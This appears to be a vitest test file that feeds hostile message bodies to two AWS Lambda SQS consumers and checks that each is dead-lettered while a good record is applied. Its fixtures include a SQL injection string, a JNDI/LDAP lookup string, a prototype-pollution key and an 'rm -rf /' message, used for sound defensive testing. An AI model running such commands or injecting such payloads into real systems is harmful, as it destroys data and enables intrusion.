import { lambdaContext, snsToSqsRecord, sqsEvent, sqsRecord } from "@switchyard/testing";
import type { SQSBatchResponse, SQSRecord } from "aws-lambda";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import {
  acceptDeadLetters,
  deadLettered,
  dynamo,
  fakeTable,
  handlerEnv,
  order,
  recordOf,
  sqs,
} from "./fakes";

// Hostile input, handler level: every hostile body ends as a dead letter with its reason while the good record in
// the same batch is applied; no crash, no unhandled rejection, and the secrets a body carries never reach a log line.

handlerEnv({ INVENTORY_TABLE: "inventory", ANALYTICS_TABLE: "analytics", MAX_RECEIVE_COUNT: "5" });
const inventory = await import("../src/handlers/inventory");
const analytics = await import("../src/handlers/analytics");

const SECRET = "eyJhbGciOiJIUzI1NiJ9.c2VjcmV0LXRva2Vu.c2lnbmF0dXJl";
const PHONE = "+4915112345678";
const deep = (depth: number) => `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;

const hostile: Array<[string, string]> = [
  ["malformed JSON", '{"eventType": "ORDER_CREATED",'],
  ["an empty body", ""],
  ["JSON null", "null"],
  ["a JSON array", "[]"],
  ["a JSON string", '"ORDER_CREATED"'],
  ["a wrong type (version as text)", JSON.stringify({ ...order(), version: "1" })],
  ["missing fields", JSON.stringify({ eventType: "ORDER_CREATED" })],
  ["an oversized orderId", JSON.stringify({ ...order(), orderId: "x".repeat(200_000) })],
  ["deep nesting (10,000 levels)", deep(10_000)],
  ["deep nesting beyond the parser (200,000 levels)", deep(200_000)],
  ["a lone surrogate in a field", `{"orderId":"o-\\ud800","eventType":"ORDER_CREATED"}`],
  ["an injection string as orderId", JSON.stringify({ ...order(), orderId: "'; DROP TABLE orders;--" })],
  [
    "template injection in a sku",
    JSON.stringify({ ...order(), items: [{ sku: `$${"{"}jndi:ldap://x/a}`, quantity: 1 }] }),
  ],
  ["a huge quantity", JSON.stringify({ ...order(), items: [{ sku: "s", quantity: 1e300 }] })],
  [
    "a number that parses to Infinity",
    JSON.stringify(order()).replace('"orderValue":120.5', '"orderValue":1e400'),
  ],
  [
    "NaN, which JSON has no word for",
    JSON.stringify(order()).replace('"orderValue":120.5', '"orderValue":NaN'),
  ],
  ["a huge version", JSON.stringify({ ...order(), version: 1e20 })],
  ["a prototype-pollution key", JSON.stringify(order()).replace("{", '{"__proto__":{"admin":true},')],
  [
    "a token and a phone number in unknown fields",
    JSON.stringify({ ...order(), token: SECRET, phone: PHONE }),
  ],
  [
    "an EventBridge envelope where an order belongs",
    JSON.stringify({ "detail-type": "ORDER_CREATED", source: "x", detail: order() }),
  ],
];

let written: { mock: { calls: unknown[][] }; mockRestore: () => void };
beforeEach(() => {
  dynamo.reset();
  sqs.reset();
  acceptDeadLetters();
  fakeTable();
  written = vi.spyOn(process.stdout, "write");
});
afterEach(() => written.mockRestore());

const run = (handler: typeof inventory.handler, records: SQSRecord[]) =>
  handler(sqsEvent(records), lambdaContext(), () => {}) as Promise<SQSBatchResponse>;

describe.each([
  ["inventory", inventory.handler],
  ["analytics", analytics.handler],
])("hostile input to the %s consumer", (_name, handler) => {
  it.each(hostile)(
    "dead-letters %s with its reason and applies the good record beside it",
    async (_case, body) => {
      // Prepare
      const bad = sqsRecord({ body, messageId: "bad" });
      const good = recordOf(order({ orderId: "good" }), "good");

      // Act
      const response = await run(handler, [bad, good]);

      // Assess
      expect(response.batchItemFailures).toEqual([]);
      const reasons = deadLettered();
      expect(Object.keys(reasons)).toEqual(["bad"]);
      expect(reasons.bad).toMatch(/\S/);
      const marker = _name === "inventory" ? "EVENT#good#1" : "EVENT#good#1#ORDER_CREATED";
      expect(fakeTable.last.get(marker, "APPLIED")).toBeDefined();
      const logs = written.mock.calls.map((call: unknown[]) => String(call[0])).join("");
      expect(logs).not.toContain(SECRET);
      expect(logs).not.toContain(PHONE);
    },
  );

  it.each([
    ["whose message is not an order", "rm -rf /"],
    ["around a valid order", JSON.stringify(order({ orderId: "forged" }))],
  ])("dead-letters a forged SNS envelope %s, naming the topic it claims", async (_case, message) => {
    // Prepare: the queue is subscribed with raw delivery, so an envelope in a body was forged
    const topicArn = "arn:aws:sns:us-east-1:999999999999:not-the-orders-topic";
    const forged = snsToSqsRecord({ raw: false, topicArn, message, messageId: "forged" });
    const good = recordOf(order({ orderId: "good" }), "good");

    // Act
    const response = await run(handler, [forged, good]);

    // Assess
    expect(response.batchItemFailures).toEqual([]);
    expect(Object.keys(deadLettered())).toEqual(["forged"]);
    expect(deadLettered().forged).toContain(
      `body: is an SNS notification envelope claiming topic "${topicArn}", but the subscription delivers raw messages`,
    );
    const marker = (id: string) => (_name === "inventory" ? `EVENT#${id}#1` : `EVENT#${id}#1#ORDER_CREATED`);
    expect(fakeTable.last.get(marker("forged"), "APPLIED")).toBeUndefined();
    expect(fakeTable.last.get(marker("good"), "APPLIED")).toBeDefined();
  });

  it("answers an empty batch with no failures", async () => {
    await expect(run(handler, [])).resolves.toEqual({ batchItemFailures: [] });
  });
});
